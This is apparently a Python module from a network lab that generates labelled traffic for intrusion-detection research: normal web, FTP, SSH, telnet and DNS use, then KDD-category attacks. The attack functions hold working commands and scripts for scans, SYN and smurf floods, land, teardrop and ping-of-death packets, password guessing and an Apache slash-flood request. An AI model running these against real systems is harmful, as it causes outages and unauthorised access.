"""The lab's phases: normal use by the client, then each attack by the
attacker, every one bounded by a packet count and a ``timeout``.

A phase is labelled by its wall-clock window (the capture's clock) and
its two parties; labels.py turns that into per-connection labels as the
lab notes describe.  The KDD label is the nearest one (notes,
"Labelling"); the category is KDD's.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from services import PASSWORD, USER
from topology import SUBNET, Topology

SERVER = f"{SUBNET}.10"
DECOYS = range(100, 112)          # reflectors and sweep targets


@dataclass(frozen=True)
class Phase:
    name: str
    label: str                     # KDD label, "normal" for normal use
    category: str                  # normal, dos, probe, r2l, u2r
    actor: tuple[str, int]         # the host that acts: (name, last octet)
    parties: tuple[str, ...]       # addresses or networks the phase's packets carry, both ends
    run: Callable[[Topology, str, Path, bool], None]   # (lab, actor, work dir, short variant)


# -- normal use -------------------------------------------------------------------


def web(lab: Topology, actor: str, work: Path, short: bool) -> None:
    for path in ["/", "/index.html", "/big.bin", "/missing"] * (2 if short else 10):
        lab.run(actor, "curl", "-s", "-o", "/dev/null", f"http://{SERVER}{path}", timeout=10)


def ftp_fetch(lab: Topology, host: str, active: bool) -> None:
    """One FTP login and download; active mode has the server connect back."""
    port = ["--ftp-port", lab.hosts[host].ip] if active else []
    lab.run(host, "curl", "-s", "-o", "/dev/null", *port, f"ftp://{USER}:{PASSWORD}@{SERVER}/readme.txt", timeout=15)


def ssh_login(lab: Topology, host: str, command: str) -> None:
    """One SSH login with the right password, running ``command``."""
    lab.run(host, "sshpass", "-p", PASSWORD, "ssh", "-o", "StrictHostKeyChecking=no", "-o",
            "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", f"{USER}@{SERVER}", command, timeout=20)


def ftp_passive(lab: Topology, actor: str, work: Path, short: bool) -> None:
    for _ in range(2 if short else 5):
        ftp_fetch(lab, actor, active=False)


def ftp_active(lab: Topology, actor: str, work: Path, short: bool) -> None:
    for _ in range(2 if short else 5):
        ftp_fetch(lab, actor, active=True)


def ssh_session(lab: Topology, actor: str, work: Path, short: bool) -> None:
    for _ in range(1 if short else 3):
        ssh_login(lab, actor, "ls -la /tmp; uptime")


TELNET_SCRIPT = "telnet.exp"


def write_telnet_script(work: Path) -> Path:
    """A login, a command, a logout.  After the login, "Last login: ... from
    ..." contains "login:" too; the script reads the login prompt once,
    before it (pitfall 9)."""
    script = work / TELNET_SCRIPT
    script.write_text(f"""set timeout 15
spawn telnet {SERVER}
expect "login: "
send "{USER}\\r"
expect "Password:"
send "{PASSWORD}\\r"
expect -re {{\\$ $}}
send "ls /tmp\\r"
expect -re {{\\$ $}}
send "exit\\r"
expect eof
""")
    return script


def telnet_session(lab: Topology, actor: str, work: Path, short: bool) -> None:
    lab.run(actor, "expect", str(write_telnet_script(work)), timeout=30)


def dns(lab: Topology, actor: str, work: Path, short: bool) -> None:
    for name in ["lab.test", "www.lab.test", "nothere.lab.test"] * (2 if short else 5):
        lab.run(actor, "dig", f"@{SERVER}", "+time=1", "+tries=1", name, timeout=5)


def ping(lab: Topology, actor: str, work: Path, short: bool) -> None:
    lab.run(actor, "ping", "-c", "3", "-i", "0.2", SERVER, timeout=5)


# -- attacks ----------------------------------------------------------------------


def ipsweep(lab: Topology, actor: str, work: Path, short: bool) -> None:
    # ICMP echo to every decoy; --disable-arp-ping or nmap only ARPs (pitfall 5)
    lab.run(actor, "nmap", "-n", "-sn", "-PE", "--disable-arp-ping", f"{SUBNET}.{DECOYS[0]}-{DECOYS[-1]}",
            timeout=30)


def portsweep(lab: Topology, actor: str, work: Path, short: bool) -> None:
    lab.run(actor, "nmap", "-n", "-Pn", "-sS", "--max-retries", "0", "-p", "1-1000", SERVER, timeout=60)


def slow_scan(lab: Topology, actor: str, work: Path, short: bool) -> None:
    ports = "1-30" if short else "1-120"
    lab.run(actor, "nmap", "-n", "-Pn", "-sS", "--max-retries", "0", "--scan-delay", "300ms", "-p", ports,
            SERVER, timeout=90)


def satan(lab: Topology, actor: str, work: Path, short: bool) -> None:
    # version and OS probing of the services, as satan/saint did
    lab.run(actor, "nmap", "-n", "-Pn", "-sV", "-O", "--version-light", "--top-ports", "30" if short else "100",
            SERVER, timeout=120)


def neptune(lab: Topology, actor: str, work: Path, short: bool) -> None:
    # the flooder's kernel must never answer the victim's SYN-ACKs with RSTs
    # (pitfall 7): the drop rule stays until teardown, since the victim
    # retransmits its SYN-ACKs long after the flood
    lab.run(actor, "iptables", "-I", "OUTPUT", "-p", "tcp", "--tcp-flags", "RST", "RST", "-j", "DROP",
            check=True, timeout=10)
    lab.run(actor, "hping3", "-q", "-S", "-p", "80", "-c", "1500" if short else "10000", "--faster", SERVER,
            timeout=30)


def smurf(lab: Topology, actor: str, work: Path, short: bool) -> None:
    # echo requests to the broadcast address, from the victim's address:
    # every reflector answers the victim (reflectors only accept broadcasts, pitfall 6)
    lab.run(actor, "hping3", "-q", "-1", "-a", SERVER, "-c", "300" if short else "2000", "--faster",
            f"{SUBNET}.255", timeout=30)


def land(lab: Topology, actor: str, work: Path, short: bool) -> None:
    lab.run(actor, "hping3", "-q", "-S", "-a", SERVER, "-s", "139", "-k", "-p", "139", "-c", "5", SERVER,
            timeout=15)


def teardrop(lab: Topology, actor: str, work: Path, short: bool) -> None:
    _scapy(lab, actor, work, "teardrop", f"""
from scapy.all import IP, UDP, send, Raw
for i in range({10 if short else 50}):
    ident = 4000 + i
    send(IP(dst="{SERVER}", id=ident, flags="MF", frag=0, proto=17) / Raw(UDP(sport=53, dport=53, len=72).build()[:8] + b"A" * 40), verbose=0)
    send(IP(dst="{SERVER}", id=ident, flags=0, frag=3, proto=17) / Raw(b"B" * 40), verbose=0)
""")


def pod(lab: Topology, actor: str, work: Path, short: bool) -> None:
    _scapy(lab, actor, work, "pod", f"""
from scapy.all import ICMP, IP, Raw, fragment, send
for i in range({2 if short else 5}):
    big = IP(dst="{SERVER}", id=7000 + i) / ICMP(id=i) / Raw(b"X" * 65600)
    send(fragment(big, fragsize=1480), verbose=0)
""")


def _scapy(lab: Topology, actor: str, work: Path, name: str, code: str) -> None:
    import sys

    script = work / f"{name}.py"
    script.write_text(code)
    lab.run(actor, sys.executable, str(script), check=True, timeout=60)


def _wordlist(work: Path, count: int) -> Path:
    words = work / f"words-{count}.txt"
    words.write_text("".join(f"guess{i:03d}\n" for i in range(count)))
    return words


def guess_ftp(lab: Topology, actor: str, work: Path, short: bool) -> None:
    words = _wordlist(work, 12 if short else 60)
    lab.run(actor, "hydra", "-I", "-q", "-t", "4", "-l", USER, "-P", str(words), f"ftp://{SERVER}",
            timeout=60)


def guess_ssh(lab: Topology, actor: str, work: Path, short: bool) -> None:
    # the real ssh client, one wrong password per connection (the server's
    # MaxAuthTries 1), eight at a time: past the 30 attempts of Zeek's SSH
    # guessing policy.  (hydra's ssh module needs minutes for as many here.)
    words = _wordlist(work, 32 if short else 100)
    attempt = (f"sshpass -p \"$0\" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
               f"-o ConnectTimeout=5 -o LogLevel=QUIET {USER}@{SERVER} true; exit 0")   # xargs stops on 255
    lab.run(actor, "sh", "-c", f"xargs -P 8 -n 1 sh -c '{attempt}' < {words}", timeout=90)


def guess_telnet(lab: Topology, actor: str, work: Path, short: bool) -> None:
    # hydra stalls on inetutils telnetd (pitfall 4): nmap's telnet-brute
    users, words = work / "users.txt", _wordlist(work, 4 if short else 12)
    users.write_text(f"{USER}\n")
    lab.run(actor, "nmap", "-n", "-Pn", "-p", "23", "--script", "telnet-brute", "--script-args",
            f"userdb={users},passdb={words},brute.firstonly=true,telnet-brute.timeout=8s", SERVER, timeout=90)


def back(lab: Topology, actor: str, work: Path, short: bool) -> None:
    # Apache "back": a request line of thousands of slashes
    url = f"http://{SERVER}/" + "/" * 6000
    for _ in range(10 if short else 40):
        lab.run(actor, "curl", "-s", "-o", "/dev/null", url, timeout=10)


def phases() -> list[Phase]:
    """Every attack comes from a host of its own: an alert episode is kept
    per source (or pair), and phases from one host would merge into one."""
    client = ("client", 20)
    normal = (f"{SUBNET}.20", SERVER)
    decoys = tuple(f"{SUBNET}.{d}" for d in DECOYS)

    def attack(name: str, octet: int, label: str, category: str, run, parties=None) -> Phase:
        return Phase(name, label, category, (name, octet), parties or (f"{SUBNET}.{octet}", SERVER), run)

    return [
        Phase("web", "normal", "normal", client, normal, web),
        Phase("ftp-passive", "normal", "normal", client, normal, ftp_passive),
        Phase("ftp-active", "normal", "normal", client, normal, ftp_active),
        Phase("ssh", "normal", "normal", client, normal, ssh_session),
        Phase("telnet", "normal", "normal", client, normal, telnet_session),
        Phase("dns", "normal", "normal", client, normal, dns),
        Phase("ping", "normal", "normal", client, normal, ping),
        attack("ipsweep", 66, "ipsweep", "probe", ipsweep, (f"{SUBNET}.66", *decoys)),
        attack("portsweep", 71, "portsweep", "probe", portsweep),
        attack("neptune", 67, "neptune", "dos", neptune),
        # spoofed: the packets carry the victim's and the reflectors' addresses only
        attack("smurf", 72, "smurf", "dos", smurf, (SERVER, *decoys)),
        attack("land", 73, "land", "dos", land, (SERVER,)),
        attack("teardrop", 74, "teardrop", "dos", teardrop),
        attack("pod", 75, "pod", "dos", pod),
        # the long probes after the floods: an alert on UDP records (teardrop)
        # waits for the UDP idle timer, and a live sensor should still be
        # running when it comes
        attack("slow-scan", 68, "portsweep", "probe", slow_scan),
        attack("satan", 69, "satan", "probe", satan),
        attack("guess-ftp", 76, "guess_passwd", "r2l", guess_ftp),
        attack("guess-ssh", 77, "guess_passwd", "r2l", guess_ssh),
        attack("guess-telnet", 78, "guess_passwd", "r2l", guess_telnet),
        attack("back", 79, "back", "dos", back),
    ]


def run_phase(lab: Topology, phase: Phase, work: Path, short: bool, gap: float = 3.0) -> dict:
    """Run one phase; returns its label entry (wall-clock window, parties).
    The quiet gap after it is longer than the labels' slack (labels.py)."""
    start = time.time()
    phase.run(lab, phase.actor[0], work, short)
    end = time.time()
    time.sleep(gap)
    return {"phase": phase.name, "label": phase.label, "category": phase.category, "start": start, "end": end,
            "parties": list(phase.parties)}
